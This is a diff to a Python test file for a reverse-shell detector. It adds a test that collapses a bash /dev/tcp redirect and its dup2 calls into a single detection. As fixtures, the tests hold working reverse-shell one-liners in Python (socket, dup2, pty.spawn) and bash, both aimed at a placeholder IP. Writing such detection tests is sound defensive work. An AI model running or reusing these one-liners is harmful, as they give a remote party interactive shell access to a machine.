@@ -31,13 +31,23 @@ def test_shell_whose_stdio_became_a_socket_through_dup2() -> None:
     assert dets[0].entity.ip == "203.0.113.7"
 
 
-def test_python_pty_reverse_shell_dup2s_and_code_fire() -> None:
+def test_python_pty_reverse_shell_is_one_detection() -> None:
     code = ("import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));"
             "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')")
     py = proc("/usr/bin/python3.11", "-c", code, pid=620, parent=login_shell())
     dets = run(ReverseShellDetector(), [execve(py), dup2(py, 0), dup2(py, 1)])
-    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.one_liner",
-                                                  "reverse_shell.socket_stdio"]
+    assert [d.rule_id for d in alerts(dets)] == ["reverse_shell.one_liner"]
+
+
+def test_bash_dev_tcp_redirect_then_dup2s_and_exec_are_one_detection() -> None:
+    """bash -c parses the redirect itself: dup2(s,1), dup2(s,2), dup2(1,0), exec bash -i."""
+    bash = proc("/usr/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", pid=625,
+                parent=login_shell())
+    interactive = proc("/usr/bin/bash", "-i", pid=625, parent=login_shell())
+    dets = run(ReverseShellDetector(), [
+        execve(bash), dup2(bash, 1), dup2(bash, 2), dup2(bash, 0),
+        execve(interactive, fd_types={0: "ipv4", 1: "ipv4", 2: "ipv4"})])
+    assert [d.rule_id for d in dets] == ["reverse_shell.dev_tcp"]
 
 
 def test_exec_with_socket_stdio_from_fd_table() -> None:
